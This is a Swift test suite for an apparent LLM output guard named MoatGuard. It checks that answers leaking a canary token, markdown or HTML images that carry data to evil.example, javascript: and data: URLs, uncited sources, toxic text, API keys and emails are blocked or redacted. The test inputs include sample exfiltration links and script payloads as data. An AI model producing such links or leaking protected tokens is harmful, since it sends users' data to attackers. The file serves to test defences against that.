import Foundation
import Testing
@testable import MoatGuard

func outputGuard(policy: GuardPolicy = .default, retrieved: Set<String> = ["1", "2"], hosts: Set<String> = ["docs.contoso.com"]) -> OutputGuard {
    OutputGuard(policy: policy, canary: "CANARY-7f3a9c2e41", retrievedDocumentIDs: retrieved, allowedLinkHosts: hosts)
}

@Suite("Output rules")
struct OutputGuardTests {
    @Test("canary leak blocks the answer", arguments: [
        "Sure: CANARY-7f3a9c2e41", "the code is canary 7f3a 9c2e 41", "c-a-n-a-r-y-7-f-3-a-9-c-2-e-4-1",
        Data("CANARY-7f3a9c2e41".utf8).base64EncodedString(),
    ])
    func canary(answer: String) {
        let result = outputGuard().scan(answer)
        #expect(result.isBlocked)
        #expect(result.verdicts.contains { $0.ruleID == GuardRuleID.outputCanary })
    }

    @Test("threat in the answer is caught", arguments: ["I will kill you [1].", "We will hurt you if you ask again."])
    func threat(answer: String) {
        let result = outputGuard().scan(answer)
        #expect(result.verdicts.contains { $0.ruleID == GuardRuleID.outputToxic })
    }

    @Test("redaction marker is not a citation")
    func redactionMarkerIsNotCitation() {
        let result = outputGuard().scan("Write to [REDACTED:pii.email] for help [1].")
        #expect(!result.verdicts.contains { $0.ruleID == GuardRuleID.outputCitation })
    }

    @Test("markdown image carrying data is removed")
    func imageExfiltration() {
        let result = outputGuard().scan("Done. ![chart](https://evil.example/p.png?d=c2VjcmV0LXZhbHVlLWZyb20tZG9j) Bye")
        #expect(result.verdicts.map(\.ruleID) == [GuardRuleID.outputLinkData])
        #expect(result.text == "Done. [REDACTED:output.link-data] Bye")
    }

    @Test("reference-style image to another host is removed with its definition")
    func referenceImage() {
        let answer = "See ![logo][r] here.\n\n[r]: https://evil.example/x.png\n"
        let result = outputGuard().scan(answer)
        #expect(result.verdicts.map(\.ruleID).sorted() == [GuardRuleID.outputImage, GuardRuleID.outputLink])
        #expect(!result.text.contains("evil.example"))
    }

    @Test("link to an allow-listed host survives")
    func allowedLink() {
        let answer = "Read [the policy](https://docs.contoso.com/travel) first [1]."
        let result = outputGuard().scan(answer)
        #expect(result.verdicts.isEmpty)
        #expect(result.text == answer)
    }

    @Test("link outside the allow-list keeps its text")
    func foreignLink() {
        let result = outputGuard().scan("Download [the tool](https://www.suspicioussite.xyz/setup) now")
        #expect(result.text == "Download the tool [REDACTED:output.link] now")
    }

    @Test("javascript, data and HTML image URLs are removed", arguments: [
        "[click](javascript:alert(1))", "<img src=\"https://evil.example/a.png\">", "![x](data:image/png;base64,AAAA)",
    ])
    func unsafeURLs(answer: String) {
        let result = outputGuard().scan(answer)
        #expect(!result.verdicts.isEmpty)
        #expect(result.text.contains("[REDACTED:output."))
    }

    @Test("citation of a document not retrieved is redacted")
    func citations() {
        let result = outputGuard().scan("The allowance is EUR 40 [1][7].")
        #expect(result.verdicts.map(\.ruleID) == [GuardRuleID.outputCitation])
        #expect(result.text == "The allowance is EUR 40 [1][REDACTED:output.citation].")
    }

    @Test("checkboxes and editorial brackets are not citations")
    func notCitations() {
        #expect(outputGuard().scan("- [x] done\n- [ ] open\nHe said [sic] twice.").verdicts.isEmpty)
    }

    @Test("toxic words are found through obfuscation", arguments: ["you f*ck", "what a fuuuuck", "f u c k this", "sh1t happens", "go kill yourself"])
    func toxic(answer: String) {
        #expect(outputGuard().scan(answer).verdicts.contains { $0.ruleID == GuardRuleID.outputToxic })
    }

    @Test("words containing toxic substrings are clean", arguments: ["Scunthorpe is in England", "the class assessment", "Shitake? No, shiitake mushrooms", "a cocktail in Essex"])
    func notToxic(answer: String) {
        #expect(!outputGuard().scan(answer).verdicts.contains { $0.ruleID == GuardRuleID.outputToxic })
    }

    @Test("secrets and personal data in answers are redacted")
    func leaks() {
        let result = outputGuard().scan("The key is AKIAIOSFODNN7QWERTYU and Ana's mail is ana@example.com.")
        #expect(result.text == "The key is [REDACTED:secret.api-key] and Ana's mail is [REDACTED:pii.email].")
    }

    @Test("roles allowed to see personal data see it, but never secrets")
    func personalDataRoles() {
        let policy = GuardPolicy(rolesSeeingPersonalData: ["HR"])
        let answer = "Mail ana@example.com, key AKIAIOSFODNN7QWERTYU"
        let result = outputGuard(policy: policy).scan(answer, viewerRoles: ["HR"])
        #expect(result.text == "Mail ana@example.com, key [REDACTED:secret.api-key]")
        #expect(result.verdicts.first { $0.ruleID == GuardRuleID.piiEmail }?.action == .flag)
        #expect(outputGuard(policy: policy).scan(answer, viewerRoles: ["Reader"]).text.contains("[REDACTED:pii.email]"))
    }
}
